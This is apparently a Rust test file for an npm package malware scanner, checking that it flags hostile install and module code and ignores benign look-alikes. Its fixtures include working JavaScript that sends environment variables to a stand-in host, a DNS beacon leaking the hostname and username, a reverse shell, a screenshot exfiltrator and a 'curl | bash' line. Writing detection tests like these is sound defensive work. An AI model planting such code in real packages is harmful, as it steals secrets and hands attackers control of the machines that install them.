//! npm packages judged whole: data flow in install scripts and in what `main` requires,
//! top-level reach, and the false signals found on real npm code (a node_modules of
//! 1,994 popular packages; the twins below are our own small versions of each shape).

mod common;

use common::{rules, verdict as judge};
use tollgate_analysis::VerdictLevel;

fn manifest(scripts: &str) -> String {
    format!(
        "{{\"name\":\"fixture\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{{{scripts}}}}}"
    )
}

#[test]
fn postinstall_that_sends_the_environment_is_malicious() {
    let package = manifest("\"postinstall\":\"node collect.js\"");
    let verdict = judge(&[
        ("package.json", package.as_str()),
        (
            "collect.js",
            "const https = require('https');\nconst body = JSON.stringify(process.env);\n\
             const req = https.request({hostname: 'collect.example.invalid', method: 'POST'});\n\
             req.write(body);\nreq.end();\n",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
    assert!(rules(&verdict).contains(&"exfiltration"), "{verdict:#?}");
}

#[test]
fn preinstall_that_puts_the_host_name_in_a_dns_query_is_malicious() {
    // Reconstruction of the dependency-confusion beacons that leave by DNS.
    let package = manifest("\"preinstall\":\"node b.js\"");
    let verdict = judge(&[
        ("package.json", package.as_str()),
        (
            "b.js",
            "const dns = require('dns'), os = require('os');\n\
             const id = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');\n\
             dns.lookup(id.slice(0, 60) + '.beacon.example.invalid', () => {});\n",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
}

#[test]
fn a_required_module_that_pipes_a_socket_into_a_shell_is_malicious() {
    let verdict = judge(&[
        ("package.json", manifest("").as_str()),
        (
            "index.js",
            "require('./lib/' + 'net');\nmodule.exports = {};\n",
        ),
        (
            "lib/net.js",
            "const net = require('net'), cp = require('child_process');\n\
             const sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\n\
             c.connect(4444, '203.0.113.5', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
    assert!(rules(&verdict).contains(&"reverse-shell"), "{verdict:#?}");
}

#[test]
fn browser_automation_screenshots_are_not_screen_capture() {
    let verdict = judge(&[
        ("package.json", manifest("").as_str()),
        (
            "index.js",
            "const http = require('http');\nclass Page {\n  async screenshot(options) {\n    return this.send('Page.captureScreenshot', options);\n  }\n}\n\
             async function shoot(page) { await page.screenshot(); await page.startScreenshot(); }\n\
             module.exports = { Page, shoot, server: http.createServer() };\n",
        ),
    ]);
    assert!(!rules(&verdict).contains(&"surveillance"), "{verdict:#?}");
    let grabber = verdict_of_grabber();
    assert!(rules(&grabber).contains(&"surveillance"), "{grabber:#?}");
}

fn verdict_of_grabber() -> tollgate_analysis::Verdict {
    judge(&[
        ("package.json", manifest("").as_str()),
        (
            "index.js",
            "const screenshot = require('screenshot-desktop');\n\
             screenshot().then(img => fetch('https://collect.example.invalid/s', {method: 'POST', body: img}));\n",
        ),
    ])
}

#[test]
fn words_inside_identifiers_and_infrastructure_addresses_are_not_signals() {
    // `CopyTransform` lowercased holds `pytransform`; `"powerOff"` is a DOM property;
    // cloud SDKs ask the metadata service at 169.254.169.254 and check 1.1.1.1.
    let verdict = judge(&[
        ("package.json", manifest("").as_str()),
        (
            "index.js",
            "/** @callback CopyTransform */\nconst props = [\"powerOff\", \"powerOn\"];\n\
             const http = require('http');\nconst IMDS = 'http://169.254.169.254/latest/meta-data/';\n\
             const probe = 'https://1.1.1.1/dns-query';\nmodule.exports = { props, get: (p) => http.get(IMDS + p) };\n",
        ),
    ]);
    assert_eq!(verdict.level, VerdictLevel::Clean, "{verdict:#?}");
}

#[test]
fn a_download_command_in_an_exported_function_is_not_decisive() {
    // An installer helper of a CLI: `curl ... | bash` in a function the user calls.
    let verdict = judge(&[
        ("package.json", manifest("").as_str()),
        (
            "index.js",
            "const { execSync } = require('child_process');\n\
             exports.install = function () {\n  execSync('curl -fsSL https://get.example.invalid/i.sh | bash');\n};\n",
        ),
    ]);
    assert!(verdict.level < VerdictLevel::Malicious, "{verdict:#?}");
    // The same line at top level runs on require.
    let top = judge(&[
        ("package.json", manifest("").as_str()),
        (
            "index.js",
            "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://get.example.invalid/i.sh | bash');\n",
        ),
    ]);
    assert_eq!(top.level, VerdictLevel::Malicious, "{top:#?}");
}
